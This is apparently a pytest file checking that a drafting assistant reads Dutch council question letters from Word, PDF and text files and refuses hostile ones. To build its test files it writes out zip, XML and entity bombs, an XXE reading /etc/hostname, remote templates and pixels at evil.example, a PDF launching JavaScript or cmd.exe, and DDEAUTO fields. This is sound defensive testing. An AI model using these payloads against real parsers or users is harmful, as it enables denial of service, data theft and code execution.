"""Files with questions are read; what could do harm is refused with a message."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pypdf
import pytest
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from assistant.drafting.desk import letter_of_file, letter_of_text
from assistant.drafting.models import DraftingError
from tests.assistant.drafting.files import EXTERNAL, changed_word, numbered_word, pdf, table_word, word


def _numbers(path: Path) -> list[str]:
    return [question.number for question in letter_of_file(path).questions]


def test_numbers_that_word_makes_itself_are_read(tmp_path: Path) -> None:
    items = [
        (0, "Wat kostte het plein?"),
        (0, "Over de markt:"),
        (1, "Wat kostte die?"),
        (1, "Wie betaalt?"),
        (0, "Klaar?"),
    ]
    path = numbered_word(tmp_path / "vragen.docx", items, ["Onderwerp: het plein", "Inleiding", "Het plein is af."])
    letter = letter_of_file(path)
    assert [(one.number, one.text) for one in letter.questions] == [
        ("1", "Wat kostte het plein?"),
        ("2a", "Wat kostte die?"),
        ("2b", "Wie betaalt?"),
        ("3", "Klaar?"),
    ]
    assert letter.subject == "het plein"
    assert letter.introduction == "Het plein is af."


def test_a_form_in_a_table_is_read(tmp_path: Path) -> None:
    rows = [["Onderwerp", "fietspaden"], ["Fractie", "SP"], ["1", "Wat kost het?"], ["2", "Wie betaalt?"]]
    letter = letter_of_file(table_word(tmp_path / "form.docx", rows))
    assert [one.text for one in letter.questions] == ["Wat kost het?", "Wie betaalt?"]
    assert (letter.subject, letter.party) == ("fietspaden", "SP")


def test_a_list_of_questions_in_a_table_is_read_by_its_columns(tmp_path: Path) -> None:
    rows = [
        ["Nr.", "Blz.", "Vraag", "Antwoord"],
        ["1", "12", "Waarom stijgen de lasten?", ""],
        ["2", "", "a. Hoeveel fte is begroot?\nb. Hoeveel is ingevuld?", ""],
        ["3", "40", "Kunt u de post onvoorzien toelichten?", "volgt"],
    ]
    letter = letter_of_file(table_word(tmp_path / "lijst.docx", rows))
    assert [(one.number, one.text) for one in letter.questions] == [
        ("1", "Waarom stijgen de lasten? (bladzijde 12)"),
        ("2a", "Hoeveel fte is begroot?"),
        ("2b", "Hoeveel is ingevuld?"),
        ("3", "Kunt u de post onvoorzien toelichten? (bladzijde 40)"),
    ]


def test_a_pdf_in_two_columns_is_read_column_by_column(tmp_path: Path) -> None:
    path = tmp_path / "kolommen.pdf"
    canvas = Canvas(str(path), pagesize=A4)
    for left, first in ((50, 1), (310, 7)):
        for row, number in enumerate(range(first, first + 6)):
            canvas.drawString(left, 760 - 42 * row, f"{number}. Hoeveel mensen in wijk {number} wachten")
            canvas.drawString(left, 746 - 42 * row, "er op huishoudelijke hulp, en hoe lang")
            canvas.drawString(left, 732 - 42 * row, "duurt het voordat zij geholpen worden?")
    canvas.save()
    letter = letter_of_file(path)
    assert [one.number for one in letter.questions] == [str(number) for number in range(1, 13)]
    assert all(one.text.endswith("geholpen worden?") for one in letter.questions)


def test_a_pdf_is_read_without_its_header_and_page_numbers(tmp_path: Path) -> None:
    pages = [["Vraag 1", "Wat kost het plein, en wie", "betaalt"], ["dat?", "Vraag 2", "Wanneer is het klaar?"]]
    letter = letter_of_file(pdf(tmp_path / "vragen.pdf", pages, header="Raadsvragen fractie SP"))
    assert [one.text for one in letter.questions] == [
        "Wat kost het plein, en wie betaalt dat?",
        "Wanneer is het klaar?",
    ]


def test_plain_text_and_markdown_are_read(tmp_path: Path) -> None:
    for name in ("vragen.txt", "vragen.md"):
        (tmp_path / name).write_text("1. Wat kost het?\n2. Wie betaalt?\n", encoding="utf-8")
        assert _numbers(tmp_path / name) == ["1", "2"]


def test_a_link_to_click_on_is_no_harm(tmp_path: Path) -> None:
    relation = EXTERNAL.format(kind="hyperlink", target="https://raad.example/stuk")
    assert _numbers(changed_word(tmp_path / "link.docx", relation=relation)) == ["1", "2"]


def test_the_writers_own_template_is_no_harm(tmp_path: Path) -> None:
    target = "file:///C:/Users/raad/AppData/Sjablonen/Fractie.dotx"
    relation = EXTERNAL.format(kind="attachedTemplate", target=target)
    assert _numbers(changed_word(tmp_path / "eigen.docx", relation=relation)) == ["1", "2"]


def _macro(path: Path) -> Path:
    return changed_word(path, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def _macro_type(path: Path) -> Path:
    kind = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    kinds = b'<?xml version="1.0"?><Types><Override ContentType="' + kind + b'"/></Types>'
    return changed_word(path, {"[Content_Types].xml": kinds})


def _embedded(path: Path) -> Path:
    return changed_word(path, {"word/embeddings/oleObject1.bin": b"MZ"})


def _remote_template(path: Path) -> Path:
    return changed_word(path, relation=EXTERNAL.format(kind="attachedTemplate", target="https://evil.example/t.dotm"))


def _share_template(path: Path) -> Path:
    return changed_word(path, relation=EXTERNAL.format(kind="attachedTemplate", target="file://///evil.example/t.dotm"))


def _remote_picture(path: Path) -> Path:
    return changed_word(path, relation=EXTERNAL.format(kind="image", target="http://evil.example/pixel.png"))


def _remote_frame(path: Path) -> Path:
    return changed_word(path, relation=EXTERNAL.format(kind="frame", target="http://evil.example/"))


def _zip_bomb(path: Path) -> Path:
    return changed_word(path, {"word/media/image1.bmp": b"\x00" * 60_000_000})


def _xml_bomb(path: Path) -> Path:
    body = b"<w:p><w:r><w:t>1. Wat kost het?</w:t></w:r></w:p>" * 700_000
    head = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    return changed_word(path, {"word/document.xml": head + body + b"</w:body></w:document>"})


def _entity_bomb(path: Path) -> Path:
    entities = b"".join(b'<!ENTITY e%d "%s">' % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, 9))
    text = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e0 "boem ">' + entities + b"]>"
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        b"<w:p><w:r><w:t>&e8;</w:t></w:r></w:p></w:body></w:document>"
    )
    return changed_word(path, {"word/document.xml": text})


def _external_entity(path: Path) -> Path:
    text = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        b"<w:p><w:r><w:t>1. Wat is &x;?</w:t></w:r></w:p></w:body></w:document>"
    )
    return changed_word(path, {"word/document.xml": text})


def _wide_external_entity(path: Path) -> Path:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w SYSTEM "http://127.0.0.1:9/x.dtd"><w/>'
    return changed_word(path, {"word/document.xml": text.encode("utf-16")})


def _nested_archive(path: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bom.txt", b"0" * 20_000_000)
    return changed_word(path, {"word/embeddings/bom.zip": inner.getvalue()})


def _foreign_chunk(path: Path) -> Path:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
    relation = f'<Relationship Id="rId77" Type="{kind}" Target="stuk.html"/>'
    return changed_word(path, {"word/stuk.html": b"<script>alert(1)</script>"}, relation)


def _part_twice(path: Path) -> Path:
    word(path, ["1. Wat kost het?"])
    data = path.read_bytes().replace(b"word/settings.xml", b"word/document.xml")
    path.write_bytes(data)
    return path


def _outside_folder(path: Path) -> Path:
    return changed_word(path, {"../../buiten.txt": b"x"})


def _deep(path: Path) -> Path:
    text = b"<w:p>" + b"<w:smartTag>" * 3000 + b"<w:r><w:t>1. Wat?</w:t></w:r>" + b"</w:smartTag>" * 3000 + b"</w:p>"
    head = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    return changed_word(path, {"word/document.xml": head + text + b"</w:body></w:document>"})


def _many_questions(path: Path) -> Path:
    return word(path, [f"{number}. Wat kost plan nummer {number}?" for number in range(1, 10_001)])


def _encrypted(path: Path) -> Path:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000)
    return path


def _disguised(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.7\n")
    return path


def _empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def _cut_off(path: Path) -> Path:
    word(path, ["1. Wat kost het?"])
    path.write_bytes(path.read_bytes()[:-400])
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (_macro, "macro"),
        (_macro_type, "macro"),
        (_embedded, "ingesloten"),
        (_remote_template, "van buiten"),
        (_share_template, "van buiten"),
        (_remote_picture, "van buiten"),
        (_remote_frame, "van buiten"),
        (_zip_bomb, "te groot"),
        (_xml_bomb, "te groot"),
        (_entity_bomb, "DTD"),
        (_external_entity, "DTD"),
        (_wide_external_entity, "DTD|beschadigd"),
        (_nested_archive, "ingesloten"),
        (_foreign_chunk, "ingesloten"),
        (_part_twice, "beschadigd"),
        (_outside_folder, "beschadigd"),
        (_deep, "beschadigd"),
        (_many_questions, "te lang|meer dan"),
        (_encrypted, "wachtwoord"),
        (_disguised, "inhoud is een PDF"),
        (_empty, "leeg"),
        (_cut_off, "beschadigd"),
    ],
)
def test_a_word_file_that_means_harm_is_refused(tmp_path: Path, make: Callable[[Path], Path], message: str) -> None:
    with pytest.raises(DraftingError, match=message):
        letter_of_file(make(tmp_path / "vragen.docx"))


@pytest.mark.parametrize("name", ["vragen.docm", "vragen.doc", "vragen.exe", "vragen.xlsx", "vragen.html", "vragen"])
def test_another_kind_of_file_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"1. Wat kost het?")
    with pytest.raises(DraftingError, match="wordt niet gelezen|kan niet worden gelezen"):
        letter_of_file(tmp_path / name)


def test_an_encrypted_pdf_is_refused(tmp_path: Path) -> None:
    reader = pypdf.PdfReader(str(pdf(tmp_path / "open.pdf", [["1. Wat kost het?"]])))
    writer = pypdf.PdfWriter(clone_from=reader)
    writer.encrypt("geheim")
    path = tmp_path / "dicht.pdf"
    writer.write(str(path))
    with pytest.raises(DraftingError, match="wachtwoord"):
        letter_of_file(path)


def _acting_pdf(path: Path, action: dict[str, str]) -> Path:
    """A PDF that wants to do something when it is opened, with a program attached to it."""
    reader = pypdf.PdfReader(str(pdf(path, [["1. Wat kost het plein?", "2. Wie betaalt dat?"]])))
    writer = pypdf.PdfWriter(clone_from=reader)
    entries = {NameObject(name): NameObject(value) if value[0] == "/" else TextStringObject(value)
               for name, value in action.items()}  # fmt: skip
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(entries)
    writer.add_attachment("virus.exe", b"MZ")
    writer.write(str(path))
    return path


@pytest.mark.parametrize(
    "action",
    [
        {"/S": "/JavaScript", "/JS": "app.launchURL('http://evil.example')"},
        {"/S": "/Launch", "/F": "cmd.exe"},
        {"/S": "/URI", "/URI": "http://evil.example"},
    ],
)
def test_of_a_pdf_with_a_script_only_the_text_is_read(tmp_path: Path, action: dict[str, str]) -> None:
    letter = letter_of_file(_acting_pdf(tmp_path / "actie.pdf", action))
    assert [one.text for one in letter.questions] == ["Wat kost het plein?", "Wie betaalt dat?"]


def test_a_pdf_that_unpacks_to_more_than_the_machine_has_is_refused(tmp_path: Path) -> None:
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = StreamObject()
    stream._data = zlib.compress(b"BT /F1 12 Tf 10 10 Td " + b"(a) Tj " * 6_000_000 + b"ET", 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    writer.write(str(tmp_path / "bom.pdf"))
    assert (tmp_path / "bom.pdf").stat().st_size < 1_000_000
    with pytest.raises(DraftingError, match="te veel geheugen of tijd"):
        letter_of_file(tmp_path / "bom.pdf")


@pytest.mark.parametrize("field", ["DDEAUTO cmd.exe", "INCLUDETEXT http://evil.example/x", "INCLUDEPICTURE http://e/x"])
def test_a_field_that_fetches_or_starts_something_is_no_text(tmp_path: Path, field: str) -> None:
    text = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        f'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{field}</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:t>1. Wat kost het?</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    letter = letter_of_file(changed_word(tmp_path / "veld.docx", {"word/document.xml": text.encode()}))
    assert [one.text for one in letter.questions] == ["Wat kost het?"]
    assert "evil" not in letter.model_dump_json() and "cmd" not in letter.model_dump_json()


@pytest.mark.parametrize(
    "text",
    [
        "?" * 190_000,
        "1. a?\n" * 30_000,
        "Vraag 1 " * 8_000,
        "1. " + "Aa. " * 15_000 + "?",
        "1. a?\n" * 3_900,
        "\t" * 100_000 + "?",
    ],
)
def test_a_text_that_is_made_to_take_long_is_read_or_refused(text: str) -> None:
    # No time is measured: a pattern that goes through a text again from every letter would take hours.
    try:
        assert letter_of_text(text).questions
    except DraftingError as error:
        assert "te lang" in str(error) or "geen vragen" in str(error)


def test_a_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(DraftingError, match="kan niet worden geopend"):
        letter_of_file(tmp_path / "weg.docx")


def test_an_archive_that_is_no_word_file_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hallo.txt", "1. Wat kost het?")
    (tmp_path / "zip.docx").write_bytes(buffer.getvalue())
    with pytest.raises(DraftingError, match="geen Word-document"):
        letter_of_file(tmp_path / "zip.docx")


def test_a_party_that_heads_the_letter_as_a_fractie_is_named_without_that_word() -> None:
    rows = [
        "Fractie Vrije Burgers",
        "Schriftelijke vragen ex artikel 41 van het Reglement van Orde",
        "1. Hoeveel is het?",
    ]
    assert letter_of_text("\n".join(rows)).party == "Vrije Burgers"
